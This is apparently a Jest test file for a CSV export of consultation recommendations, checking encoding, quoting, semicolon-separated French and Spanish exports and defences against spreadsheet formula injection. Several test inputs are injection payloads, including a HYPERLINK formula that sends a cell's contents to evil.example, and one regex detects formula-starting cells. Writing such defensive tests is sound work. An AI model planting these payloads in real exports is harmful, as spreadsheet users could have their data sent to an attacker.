import { parse } from 'csv-parse/sync';
import { outcomeFixture } from '../../../test/fixtures/reports/outcome-document.fixture';
import { CONSTITUENCIES } from '../../participants/participant.constants';
import { csvCell, neutraliseFormula, renderCsv } from './csv';

const records = (): Array<Record<string, string>> =>
  parse(renderCsv(outcomeFixture()), { bom: true, columns: true, relax_quotes: false });

describe('renderCsv', () => {
  it('is UTF-8 with a byte order mark and CRLF line ends', () => {
    const bytes = renderCsv(outcomeFixture());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')[0]).toBe(
      '\ufeffnumber,title,text,disposition,proposed_disposition,disposition_by,disposition_by_name,disposition_note,themes,governance_level,session,sponsors,support,oppose,abstain,bridging,consensus,' +
        CONSTITUENCIES.map((code) => `support_share_${code}`).join(','),
    );
  });

  it('has one row per recommendation, adopted and noted, in number order', () => {
    const rows = records();
    expect(rows.map((row) => row.number)).toEqual(['1', '2', '3', '4', '5', '6', '7', '8']);
    expect(rows.map((row) => row.disposition)).toEqual([
      ...Array<string>(6).fill('adopted'),
      'noted',
      'noted',
    ]);
    expect(rows[0]).toMatchObject({
      themes: 'GCM-1',
      governance_level: 'multi_level',
      support: '43',
      oppose: '4',
      abstain: '3',
      bridging: '0.7143',
      consensus: 'broad',
      support_share_local_government: '0.9333',
      support_share_migrant_diaspora_organisation: '',
      support_share_private_sector: '',
    });
    expect(rows[1].themes).toBe('GCM-15; GCM-16');
    expect(rows[6].consensus).toBe('');
  });

  it('round-trips titles with commas, quotes, line breaks and accents', () => {
    const doc = outcomeFixture();
    const titles = new Map(
      [...doc.chapters.flatMap((c) => c.recommendations), ...doc.annexA].map((r) => [
        String(r.number),
        r.title,
      ]),
    );
    for (const row of records()) {
      const title = titles.get(row.number) ?? '';
      expect(row.title).toBe(neutraliseFormula(title));
    }
    expect(titles.get('4')).toContain('"first 100 days"');
    expect(titles.get('7')).toContain(',\n');
    expect(records()[2].sponsors).toBe(
      'Ville de Malines; Médecins du Monde Belgique; Urząd Miasta Łodzi; Budapest Főváros Önkormányzata',
    );
  });

  it('neutralises cells a spreadsheet would run as formulas', () => {
    const hostile = records()[4];
    expect(hostile.title.startsWith(`'=HYPERLINK(`)).toBe(true);
    expect(hostile.sponsors.startsWith(`'@Civic Tech`)).toBe(true);
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(neutraliseFormula(`${start}1+1`)).toBe(`'${start}1+1`);
    }
    expect(neutraliseFormula('a=1')).toBe('a=1');
    expect(neutraliseFormula('0.75')).toBe('0.75');
  });

  it('neutralises formulas after a separator, behind whitespace or invisible characters (OWASP)', () => {
    const cases: Array<[string, string]> = [
      // French and Spanish Excel split on semicolons, so each part is a cell of its own.
      [
        'Budget 2018;=HYPERLINK("https://evil.example")',
        `Budget 2018;'=HYPERLINK("https://evil.example")`,
      ],
      ['a,=1+1', "a,'=1+1"],
      ['a; @SUM(A1)', "a; '@SUM(A1)"],
      ['first\n+1', "first\n'+1"],
      ['first\r\n-1', "first\r\n'-1"],
      ['a\t=1', "a\t'=1"],
      // Readers that trim a cell or drop invisible characters see the formula.
      [' =1+1', "' =1+1"],
      ['\u00a0=1+1', "'\u00a0=1+1"],
      ['\u200b=1+1', "'\u200b=1+1"],
      ['\u200e\u2060\ufeff@SUM(A1)', "'\u200e\u2060\ufeff@SUM(A1)"],
      ['\u0000=1', "'\u0000=1"],
      ['x;\u200b-1', "x;'\u200b-1"],
      ['\uff1d1+1', "'\uff1d1+1"],
      ['\t=1', "'\t'=1"],
    ];
    for (const [input, expected] of cases) expect(neutraliseFormula(input)).toBe(expected);
    // Ordinary text keeps its hyphens, signs and addresses inside words.
    for (const text of [
      'GCM-15; GCM-16',
      'a=1',
      'x+y',
      'name@example.org',
      'Ville de Malines; Urząd',
    ])
      expect(neutraliseFormula(text)).toBe(text);
  });

  it('writes no cell, nor part of one between separators, that a spreadsheet would evaluate', () => {
    const doc = outcomeFixture();
    const entry = doc.chapters[0].recommendations[0];
    entry.title = 'Budget 2018;=HYPERLINK("https://evil.example/?q="&A1)';
    entry.sponsors = ['\tTab Org', '\u200b@Zero Width Org', ' +Spaced Org'];
    const text = renderCsv(doc).toString('utf8');
    const rows: string[][] = parse(text, { bom: true });
    const formula = /^[\s\p{Z}\p{Cc}\p{Cf}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;
    // Read as a comma, semicolon or tab separated file, or line by line: no part starts a formula.
    for (const cell of rows.flat())
      for (const part of cell.split(/[,;\t\r\n]/)) expect(part).not.toMatch(formula);
    for (const line of text.split(/\r?\n/))
      for (const part of line.split(/[,;\t]/)) expect(part.replace(/^"/, '')).not.toMatch(formula);
    const first = rows.find((row) => row[0] === String(entry.number))!;
    expect(first[1]).toBe(`Budget 2018;'=HYPERLINK("https://evil.example/?q="&A1)`);
    expect(first[rows[0].indexOf('sponsors')]).toBe(
      "'\tTab Org; '\u200b@Zero Width Org;  '+Spaced Org",
    );
  });

  it('quotes as RFC 4180 says', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('say "yes"')).toBe('"say ""yes"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
    // Semicolons and tabs too, so a reader splitting on them keeps the cell whole.
    expect(csvCell('a; b')).toBe('"a; b"');
    expect(csvCell('a\tb')).toBe('"a\tb"');
  });

  it('separates French and Spanish exports by semicolons, and quotes cells holding one', () => {
    for (const language of ['fr', 'es'] as const) {
      const text = renderCsv(outcomeFixture(language)).toString('utf8');
      expect(text.split('\r\n')[0].startsWith('\ufeffnumber;title;text;disposition;')).toBe(true);
      const rows: Array<Record<string, string>> = parse(text, {
        bom: true,
        columns: true,
        delimiter: ';',
      });
      expect(rows).toHaveLength(8);
      // Numbers keep the decimal point: a script reads every language's export alike.
      expect(rows[0].bridging).toBe('0.7143');
      expect(rows[1].themes).toBe('GCM-15; GCM-16');
    }
    expect(csvCell('a; b')).toBe('"a; b"');
  });

  it('leaves the bridging score empty where the PDF prints a dash, not 0', () => {
    const doc = outcomeFixture();
    const noted = doc.annexA[0];
    expect(noted.constituencySupport.filter((c) => c.supportShare !== null).length).toBeLessThan(2);
    expect(records()[6].bridging).toBe('');
  });
});
